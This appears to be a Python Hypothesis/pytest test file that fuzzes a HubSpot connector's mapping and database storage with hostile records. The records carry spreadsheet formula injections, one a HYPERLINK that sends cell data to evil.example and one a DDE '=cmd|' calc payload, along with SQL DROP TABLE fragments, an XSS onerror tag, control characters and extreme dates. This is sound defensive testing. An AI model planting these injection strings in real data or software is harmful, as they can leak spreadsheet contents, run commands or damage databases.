"""Hostile HubSpot payloads through connectors.hubspot.mapping and into storage: quarantined, never a crash.

Hypothesis builds owners, contacts, deals and activities the way HubSpot's API
shapes them, with property values that are formula injections, SQL fragments,
control characters, huge strings, impossible or extreme dates and numbers, and
values of the wrong JSON type. Each batch maps to canonical rows plus rejected
records (every record is one or the other), the rows have the canonical
dtypes, and storing them the way the sync does (upsert, then rejected_rows in
the same transaction) leaves every table in place and every text stored as sent.
"""

from __future__ import annotations

import itertools

import pandas as pd
import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from sqlalchemy import inspect

from analytics.schema import COLUMNS
from connectors.hubspot import mapping
from connectors.hubspot.settings import DEAL_PROPERTIES, PropertyChoices, contact_properties
from data import journal, queries, upserts

HOSTILE = [
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "+1+1",
    "@SUM(A1)",
    "'; DROP TABLE leads; --",
    "x') OR ('1'='1",
    "<img src=x onerror=alert(1)>",
    "a\x00b",
    "\x1b[2J",
    "\u202eexe.pdf",
    "line\nbreak",
    "  padded  ",
    "😀",
    "null",
    "",
]
DATES = [
    "2026-03-01T09:30:00Z",
    "2026-03-01",
    "1772357400000",
    "-62135596800000",
    "253402300799999",
    "99999999999999999999",
    "9999-12-31T23:59:59Z",
    "0001-01-01T00:00:00Z",
    "2026-02-30",
    "yesterday",
]
NUMBERS = ["1200.50", "0", "-5", "1e308", "1e309", "-inf", "NaN", "12,5", "0x10", ""]
text = st.text(st.characters(blacklist_categories=("Cs",)), max_size=20)
odd_json = st.one_of(st.integers(), st.floats(), st.booleans(), st.lists(st.integers(), max_size=2))
value = st.one_of(st.none(), st.sampled_from(HOSTILE), st.sampled_from(DATES), st.sampled_from(NUMBERS), text,
                  odd_json, st.sampled_from([300, 70_000]).map(lambda n: "y" * n))  # fmt: skip
ids = st.one_of(st.integers(1, 30).map(str), st.sampled_from(HOSTILE[:6]), st.just("i" * 300))
CONTACT_PROPERTIES = contact_properties(PropertyChoices())


def record(names: list[str]):
    properties = st.dictionaries(st.sampled_from(names), value, max_size=len(names))
    contacts = st.lists(st.fixed_dictionaries({"id": ids}), max_size=3)
    associations = st.fixed_dictionaries({"contacts": st.fixed_dictionaries({"results": contacts})})
    return st.fixed_dictionaries(
        {"id": ids, "properties": properties},
        optional={"archived": st.booleans(), "createdAt": st.sampled_from(DATES), "updatedAt": value,
                  "associations": associations},
    )  # fmt: skip


owner = st.fixed_dictionaries(
    {"id": ids},
    optional={
        "firstName": value,
        "lastName": value,
        "email": value,
        "archived": st.booleans(),
        "updatedAt": value,
        "teams": st.lists(
            st.fixed_dictionaries({"id": ids, "name": value, "primary": st.booleans()}), max_size=2
        ),
    },  # fmt: skip
)
_sources = itertools.count()


def canonical(frame: pd.DataFrame, table: str) -> None:
    for name in frame.columns:
        assert str(frame[name].dtype) == COLUMNS[table][name], (table, name, frame[name].dtype)


def store(engine, table: str, mapped: mapping.Mapped, source: str) -> None:
    """What the sync does with a mapped batch: upsert and keep the rejects, in one transaction."""
    frame = mapped.frame.assign(source=source)
    rejected = [{**r, "source": source} for r in mapped.rejected]
    with engine.begin() as conn:
        if len(frame):
            upserts.upsert(conn, table, frame)
        journal.add_rejected_rows(conn, rejected)


def sent(records: list[dict], prop: str) -> dict[str, list]:
    """Each id's values of ``prop`` as text, as sent (a batch may repeat an id; the last good record wins)."""
    out: dict[str, list] = {}
    for r in records:
        raw = (r.get("properties") or {}).get(prop)
        out.setdefault(str(r["id"]), []).append(None if raw is None or raw == "" else str(raw))
    return out


HYPOTHESIS = settings(max_examples=80, deadline=None,
                      suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow])  # fmt: skip


@HYPOTHESIS
@given(owners=st.lists(owner, max_size=6), contacts=st.lists(record(CONTACT_PROPERTIES), max_size=8))
def test_hostile_owners_and_contacts(fuzz_engine, owners, contacts):
    source = f"hub{next(_sources)}"
    tables = sorted(inspect(fuzz_engine).get_table_names())
    owner_rows = mapping.owners_frame(owners)
    canonical(owner_rows.frame, "owners")
    assert len(owner_rows.frame) + len(owner_rows.rejected) == len(owners)
    assert all(r["reasons"] for r in owner_rows.rejected)
    store(fuzz_engine, "owners", owner_rows, source)

    mapped = mapping.leads_frame(contacts)
    canonical(mapped.frame, "leads")
    assert len(mapped.frame) + len(mapped.rejected) == len(contacts)
    assert all(r["reasons"] for r in mapped.rejected)
    store(fuzz_engine, "leads", mapped, source)

    assert sorted(inspect(fuzz_engine).get_table_names()) == tables
    leads = queries.read_leads(fuzz_engine)
    leads = leads[leads["source"] == source]
    assert set(leads["external_id"]) == set(mapped.frame["external_id"])
    segments = sent(contacts, "accord_segment")
    for external_id, segment in zip(leads["external_id"], leads["segment"], strict=True):
        assert (None if pd.isna(segment) else segment) in segments[external_id]  # stored exactly as sent


@HYPOTHESIS
@given(deals=st.lists(record(DEAL_PROPERTIES), max_size=8),
       calls=st.lists(record(["hs_timestamp", "hubspot_owner_id"]), max_size=8))  # fmt: skip
def test_hostile_deals_and_activities(fuzz_engine, deals, calls):
    source = f"hub{next(_sources)}"
    tables = sorted(inspect(fuzz_engine).get_table_names())
    stages = mapping.stage_index([{"id": "default", "label": "=cmd|' /C calc'!A0", "stages": [
        {"id": "closedwon", "label": "'; DROP TABLE deals; --", "metadata": {"isClosed": "true", "probability": "1.0"}},
        {"id": "x", "label": None, "metadata": {"isClosed": "maybe", "probability": "lots"}}]}])  # fmt: skip
    mapped = mapping.deals_frame(deals, stages)
    canonical(mapped.frame, "deals")
    assert len(mapped.frame) + len(mapped.rejected) == len(deals)
    store(fuzz_engine, "deals", mapped, source)
    names = sent(deals, "dealname")
    stored = queries.read_deals(fuzz_engine)
    stored = stored[stored["source"] == source]
    for external_id, name in zip(stored["external_id"], stored["name"], strict=True):
        assert (None if pd.isna(name) else name) in names[external_id]

    activities = mapping.activities_frame(calls, "calls", "call")
    canonical(activities.frame, "activities")
    assert len(activities.frame) + len(activities.rejected) == len(calls)
    store(fuzz_engine, "activities", activities, source)
    assert sorted(inspect(fuzz_engine).get_table_names()) == tables


@pytest.mark.parametrize(
    ("frame", "table", "record"),
    [
        (
            "leads_frame",
            "leads",
            {"id": "1", "properties": {"createdate": "99999999999999999999"}},
        ),  # ms past pandas
        (
            "leads_frame",
            "leads",
            {"id": "2", "properties": {"createdate": 9223372036854775}},
        ),  # a JSON number
        (
            "leads_frame",
            "leads",
            {"id": "3", "properties": {"hs_v2_date_entered_marketingqualifiedlead": "-99999999999999999"}},
        ),
        ("leads_frame", "leads", {"id": "4", "properties": {"createdate": "-5"}}),  # read as the year -5
        (
            "leads_frame",
            "leads",
            {"id": "5", "properties": {"createdate": "2026-03-01", "accord_segment": "a\x00b"}},
        ),
        ("leads_frame", "leads", {"id": "6\x00", "properties": {"createdate": "2026-03-01"}}),
        (
            "leads_frame",
            "leads",
            {"id": "7", "properties": {"createdate": "2026-03-01", "lifecyclestage": "l" * 70}},
        ),
        ("leads_frame", "leads", {"id": "8" * 300, "properties": {"createdate": "2026-03-01"}}),
        (
            "deals_frame",
            "deals",
            {"id": "9", "properties": {"createdate": "2026-03-01", "dealname": "d" * 300}},
        ),
        (
            "deals_frame",
            "deals",
            {"id": "10", "properties": {"createdate": "2026-03-01", "deal_currency_code": "EURO-DOLLAR"}},
        ),
    ],
)
def test_known_hostile_records(fuzz_engine, frame, table, record):
    """Records the fuzzers above found trouble with: each is mapped and stored, or quarantined, never a crash."""
    source = f"known{next(_sources)}"
    mapped = getattr(mapping, frame)([record])
    assert len(mapped.frame) + len(mapped.rejected) == 1
    store(fuzz_engine, table, mapped, source)
    reader = {"leads": queries.read_leads, "deals": queries.read_deals}[table]
    stored = reader(fuzz_engine)
    assert (stored["source"] == source).sum() == len(mapped.frame)


@pytest.mark.parametrize(
    "owner", [{"id": "7", "email": "e" * 330 + "@x.example"}, {"id": "8", "firstName": "n" * 300}]
)
def test_known_hostile_owners(fuzz_engine, owner):
    source = f"known{next(_sources)}"
    store(fuzz_engine, "owners", mapping.owners_frame([owner]), source)
    stored = (queries.read_owners(fuzz_engine)["source"] == source).sum()
    kept = len(journal.read_rejected_rows(fuzz_engine, source=source))
    assert stored + kept == 1  # stored (as sent), or quarantined with its reason


def test_an_owner_name_of_the_wrong_type_is_not_a_crash():
    mapped = mapping.owners_frame([{"id": "7", "firstName": 1, "lastName": 2.5, "email": 5},
                                   {"id": "8", "firstName": "Ann", "lastName": ["x"]},
                                   {"id": "9", "firstName": {"a": 1}, "teams": [{"name": 3, "primary": True}]}])  # fmt: skip
    assert mapped.frame[["external_id", "name", "email"]].to_dict("records") == [
        {"external_id": "7", "name": "1 2.5", "email": "5"}  # scalars are taken as text
    ]
    assert [(r["external_id"], r["reasons"]) for r in mapped.rejected] == [
        ("8", ["lastName: ['x'] is not text"]),
        ("9", ["firstName: {'a': 1} is not text"]),
    ]
